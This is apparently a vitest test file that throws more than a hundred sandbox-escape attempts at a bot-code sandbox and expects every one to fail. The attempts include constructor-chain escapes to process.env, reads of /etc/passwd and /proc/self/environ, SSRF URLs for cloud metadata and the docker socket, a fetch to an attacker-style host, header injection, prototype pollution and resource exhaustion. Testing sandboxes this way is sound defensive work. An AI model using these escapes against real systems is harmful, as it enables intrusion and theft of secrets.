// S70: scripts that try to reach beyond the sandbox; the same attempts succeed outside of it
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { BotPool } from './bot-pool.ts';
import type { RunOutcome } from './sandbox/protocol.ts';

let pool: BotPool;
beforeAll(() => {
  pool = new BotPool({ size: 2, limits: { memoryMb: 64 } });
  pool.start();
});
afterAll(() => pool.stop());

let count = 0;
function run(body: string, timeLimitMs = 3000): Promise<RunOutcome> {
  const code = `exports.handler = async (medplum, event) => { ${body} };`;
  return pool.run({
    run: `run-${count++}`,
    lane: `lane-${count % 2}`,
    codeHash: code,
    code,
    moduleKind: 'cjs',
    event: '{"input":{},"secrets":{}}',
    baseUrl: 'http://127.0.0.1:1/',
    accessToken: 'a.b.c',
    timeLimitMs,
    egress: [],
    inside: [],
  });
}

/** Ways to get at a constructor of functions, hoping that one belongs to the host. */
const ROADS = [
  `Function`,
  `(async () => {}).constructor`,
  `(function* () {}).constructor`,
  `fetch.constructor`,
  `console.log.constructor`,
  `setTimeout.constructor`,
  `URL.constructor`,
  `crypto.randomUUID.constructor`,
  `crypto.getRandomValues.constructor`,
  `medplum.constructor.constructor`,
  `medplum.readResource.constructor`,
  `event.constructor.constructor`,
  `event.secrets.constructor.constructor`,
  `require.constructor`,
  `Date.constructor`,
  `new Error().constructor.constructor`,
  `Object.getPrototypeOf(async () => {}).constructor`,
  `Reflect.getPrototypeOf(fetch).constructor`,
  `(() => { try { null.x } catch (e) { return e.constructor.constructor } })()`,
  `(() => { try { new URL('::') } catch (e) { return e.constructor.constructor } })()`,
  `(() => { try { require('fs') } catch (e) { return e.constructor.constructor } })()`,
  `(await fetch('http://127.0.0.1:2/').catch((e) => e)).constructor.constructor`,
  `(await fetch('http://169.254.169.254/').catch((e) => e)).constructor.constructor`,
  `fetch('x').catch(() => 0).constructor.constructor`,
  `(await import('node:fs').catch((e) => e)).constructor.constructor`,
];
/** What each road would give, if it led out. */
const LOOT = ['process', 'process.env', `process.mainModule.require('fs')`];

const ATTEMPTS: [string, string][] = [
  ...ROADS.flatMap((road) =>
    LOOT.map((loot): [string, string] => [
      `${road} → ${loot}`,
      `const made = ${road}('return ${escaped(loot)}')();
       return typeof (typeof made?.next === 'function' ? made.next().value : await made);`,
    ]),
  ),
  ...[
    'fs',
    'node:fs',
    'child_process',
    'net',
    'http',
    'worker_threads',
    'vm',
    'os',
    'process',
    'isolated-vm',
    '../bot-process.ts',
    '/etc/passwd',
  ].flatMap((name): [string, string][] => [
    [`require ${name}`, `return typeof require('${name}');`],
    [`import ${name}`, `return typeof (await import('${name}'));`],
  ]),
  ...[
    'http://127.0.0.1:22/',
    'http://[::1]:22/',
    'http://169.254.169.254/latest/meta-data',
    'http://2130706433/',
    'http://0x7f.1/',
    'http://example.org/',
    'https://example.org/',
    'http://localhost:5432/',
    'file:///etc/passwd',
    'data:text/plain,x',
    'http://127.0.0.1:1@example.org/',
    'http://127.0.0.1.nip.io/',
  ].map((url): [string, string] => [`fetch ${url}`, `return (await fetch('${url}')).status;`]),
  ['WebSocket', `return typeof new WebSocket('ws://127.0.0.1:22');`],
  ['WebAssembly memory of the host', `return new WebAssembly.Memory({ initial: 70000 }).buffer.byteLength;`],
  ['the link to the host', `return globalThis.connectHost({}), 'connected';`],
  ['the clock of the host', `return globalThis.startRun(0, ''), 'started';`],
  ['a signal', `return process.kill(process.ppid);`],
  ['a fork', `return process.binding('spawn_sync');`],
  ...[
    ...['unix:///var/run/docker.sock', 'http://unix:/var/run/docker.sock:/info', 'http://[::ffff:127.0.0.1]:22/'],
    ...['http://[64:ff9b::7f00:1]:22/', 'http://127.0.0.1.:22/', 'http://0/', 'http://①②⑦.0.0.1:22/', '//example.org/'],
    ...['http://127.0.0.1:1\\\\@example.org/', 'HTTPS://EXAMPLE.ORG', 'http://leaked-secret.attacker.example/'],
  ].map((url): [string, string] => [`fetch ${url}`, `return (await fetch('${url}')).status;`]),
  ['a worker', `return typeof new Worker('data:text/javascript,0');`],
  ['a thread', `return typeof new (require('worker_threads').Worker)('0', { eval: true });`],
  ['a module from a data: URL', `return typeof (await import('data:text/javascript,export default process')).default;`],
  ['a module from a file', `return typeof (await import('/proc/self/environ'));`],
  ['a descriptor', `return typeof require('/proc/self/fd/0');`],
  ['the inspector', `return typeof require('inspector').url();`],
  ['a preloaded module', `process.env.NODE_OPTIONS = '--require=/tmp/x.js'; return 1;`],
  ['a native library', `return typeof process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6');`],
  ['another realm', `return typeof new ShadowRealm().evaluate('process');`],
  [
    'functions on the stack',
    `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getFunction());
    return typeof new Error().stack.find(Boolean).constructor('return process')();`,
  ],
  [
    'what the stack was called on',
    `Error.prepareStackTrace = (_, frames) => frames.map((f) => f.getThis());
    return typeof new Error().stack.find((each) => each && each.process).process;`,
  ],
  ['a result that is a promise of its own', `return { then(done) { done(typeof process.pid); } };`],
  ['a result that writes itself', `return { toJSON: () => String(process.pid) };`],
  [
    'an address that changes',
    `let n = 0; return (await fetch({ toString: () => (n++ ? 'https://example.org/' : '/') })).status;`,
  ],
  ['a tunnel', `return (await fetch('/', { method: 'CONNECT' })).status;`],
  ['a header within a header', `return (await fetch('/', { headers: { 'x': 'a\\r\\nHost: example.org' } })).status;`],
  [
    'a client of its own',
    `return typeof (await new medplum.constructor({ baseUrl: 'http://169.254.169.254/' }).get('latest'));`,
  ],
  [
    'a request rewritten on its way to the host',
    `const real = JSON.stringify; JSON.stringify = (value) => real(value?.url ? { ...value, url: 'http://127.0.0.1:22/' } : value);
    return (await fetch('/')).status;`,
  ],
  [
    'the reference behind a call of the host',
    `let caught; const { apply } = Function.prototype;
    Function.prototype.apply = function (...args) { caught ??= this; return Reflect.apply(apply, this, args); };
    await fetch('/').catch(() => 0); Function.prototype.apply = apply; return typeof caught?.derefInto;`,
  ],
  [
    'an answer of the host by reference',
    `Object.prototype.reference = true; Object.prototype.copy = false;
    const answer = await new Promise((done) => setTimeout(done, 1)); return typeof answer?.deref;`,
  ],
  [
    'an answer of the host through Promise.prototype',
    `const { then } = Promise.prototype; let seen;
    Promise.prototype.then = function (...args) { seen ??= this.constructor.constructor('return process'); return Reflect.apply(then, this, args); };
    await fetch('/').catch(() => 0); return typeof seen();`,
  ],
  [
    'a species that the host makes',
    `class Own extends Promise { static get [Symbol.species]() { return Function; } }
    const sent = fetch('/'); sent.constructor = Own; return typeof sent.then((x) => x)('return process');`,
  ],
  [
    'a prototype through a Proxy',
    `return typeof Object.getPrototypeOf(new Proxy(fetch, {})).constructor('return process')();`,
  ],
  ['a caller', `return (function inner() { return typeof inner.caller.caller.arguments[0].process; })();`],
  ['the end of the wrapper', `}); globalThis.out = process; (function () { return typeof out;`],
  ['a name that changes', `let n = 0; return typeof require({ toString: () => (n++ ? 'fs' : '@medplum/core') });`],
  ['a folder beside a module', `return typeof require('@medplum/core/../../fs');`],
  ['a helper of the engine', `return typeof eval('%GetHeapUsage()');`],
  [
    'code of WebAssembly with imports of the host',
    `const module = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0,
    2, 9, 1, 3, 101, 110, 118, 1, 102, 0, 0])); return typeof new WebAssembly.Instance(module, { env: { f: process.exit } });`,
  ],
];

function escaped(text: string): string {
  return text.replaceAll("'", "\\'");
}

describe('escapes', () => {
  test(`of ${ATTEMPTS.length} attempts none succeeds`, async () => {
    expect(ATTEMPTS.length).toBeGreaterThanOrEqual(100);
    const succeeded: string[] = [];
    for (const [name, body] of ATTEMPTS) {
      const { state, output } = await run(body);
      if (state === 'succeeded' && output !== '"undefined"') {
        succeeded.push(`${name}: ${output}`);
      }
    }
    expect(succeeded).toEqual([]);
  }, 120_000);

  test('the prototypes of one run are not those of the next', async () => {
    await run(`Object.prototype.owned = 1; Array.prototype.map = () => 'owned'; Promise.prototype.then = undefined;`);
    await run(`Object.prototype.owned = 1; JSON.stringify = () => '"owned"'; Function.prototype.call = () => 'owned';`);
    for (let i = 0; i < 3; i++) {
      expect((await run(`return [({}).owned === undefined, [1].map((x) => x)[0]];`)).output).toBe('[true,1]');
    }
  });

  test('a loop and an allocation without end are stopped, and the next run is made', async () => {
    expect((await run('for (;;) {}', 200)).state).toBe('timeout');
    expect((await run(`const all = []; for (;;) all.push(new Array(1e6).fill(1));`)).state).not.toBe('succeeded');
    expect((await run('return 1;')).output).toBe('1');
  });

  test('what waits, floods or throws without end is stopped', async () => {
    const bodies = [
      `Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);`,
      `const again = () => queueMicrotask(again); again(); await new Promise(() => {});`,
      `for (;;) { try { for (;;); } catch {} }`,
      `return { toJSON() { for (;;); } };`,
      `throw { get message() { for (;;); } };`,
      `console.log('x'.repeat(4e8)); for (;;);`,
    ];
    const outcomes = await Promise.all(bodies.map((body) => run(body, 300)));
    expect(outcomes.filter(({ state }) => state !== 'timeout' && state !== 'memory')).toEqual([]);
  }, 60_000);

  test('control: outside of the sandbox such attempts succeed', () => {
    const script = `console.log(JSON.stringify([
      typeof Function('return process')(), typeof require('fs').readFileSync('/proc/self/status'),
      typeof (function* () {}).constructor('return process.env')().next().value]))`;
    const answer = execFileSync(process.execPath, ['-e', script], { cwd: tmpdir(), encoding: 'utf8' });
    expect(JSON.parse(answer)).toEqual(['object', 'object', 'object']);
  });
});
